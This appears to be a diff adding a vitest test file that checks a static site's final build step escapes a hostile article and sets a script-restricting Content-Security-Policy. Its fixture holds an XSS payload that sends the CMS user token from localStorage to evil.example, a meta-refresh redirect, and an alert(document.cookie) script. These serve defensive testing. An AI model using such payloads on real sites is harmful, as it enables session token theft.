@@ -1,0 +1,67 @@
+import { createHash } from "node:crypto"
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs"
+import { tmpdir } from "node:os"
+import { join } from "node:path"
+import { pathToFileURL } from "node:url"
+
+import { afterEach, describe, expect, it, vi } from "vitest"
+
+import { markdownProcessor } from "../../src/lib/content/markdown"
+import { FONTS_FROM_FIRST_PAINT } from "../../src/lib/web-fonts"
+import { finishBuild } from "./finish-build"
+
+// The build's last step on a page made from a hostile article (issue 57, decision 029): what the policy admits, and
+// what happens if a script reaches a page some other way.
+const FONTS_HASH = `sha256-${createHash("sha256").update(FONTS_FROM_FIRST_PAINT).digest("base64")}`
+const HOSTILE = [
+  "## Spring clean",
+  "",
+  "<script>fetch('https://evil.example/?t='+localStorage.getItem('decap-cms-user'))</script>",
+  "",
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+].join("\n")
+
+const page = (body: string) =>
+  `<!doctype html><html><head><script>${FONTS_FROM_FIRST_PAINT}</script></head><body><main>${body}</main></body></html>`
+
+let root = ""
+afterEach(() => {
+  vi.unstubAllEnvs()
+  rmSync(root, { recursive: true, force: true })
+})
+
+/** A built site's client folder with home and one article page, as Astro leaves it. */
+function built(article: string) {
+  root = mkdtempSync(join(tmpdir(), "finish-build-"))
+  const client = join(root, "client")
+  mkdirSync(join(client, "_astro"), { recursive: true })
+  mkdirSync(join(client, "blog"))
+  writeFileSync(join(client, "index.html"), page('<a href="/blog/spring-clean">Spring clean</a>'))
+  writeFileSync(join(client, "blog/spring-clean.html"), page(`<article>${article}</article>`))
+  return client
+}
+
+describe("finishing a build with an article that got past the content check", () => {
+  it("admits the layout's script alone: the article's script has no hash and its refresh is text", async () => {
+    vi.stubEnv("CMS", "off")
+    const renderer = await markdownProcessor.createRenderer({ syntaxHighlight: false } as never)
+    const file = pathToFileURL(join(process.cwd(), "content/blog/spring-clean.md"))
+    const { code } = await renderer.render(HOSTILE, { fileURL: file } as never)
+    const client = built(code)
+    const { rules } = await finishBuild(client)
+    const policy = rules.find((rule) => rule.pattern === "/*")!.headers["Content-Security-Policy"]!
+    expect(/script-src ([^;]*)/.exec(policy)![1]).toBe(`'self' '${FONTS_HASH}'`)
+    const html = readFileSync(join(client, "blog/spring-clean.html"), "utf8")
+    expect(html).not.toMatch(/<meta/i)
+    expect(html).toContain("&lt;script&gt;fetch(")
+    expect(JSON.parse(readFileSync(join(root, "headers.json"), "utf8"))).toEqual(rules)
+  })
+
+  it("stops, naming the page, on an inline script the site did not write", async () => {
+    vi.stubEnv("CMS", "off")
+    const client = built("<p>Hi</p><script>alert(document.cookie)</script>")
+    await expect(finishBuild(client)).rejects.toThrow(
+      'Content may not add scripts to a page:\n  /blog/spring-clean has an inline script the site did not write: "alert(document.cookie)"',
+    )
+  })
+})
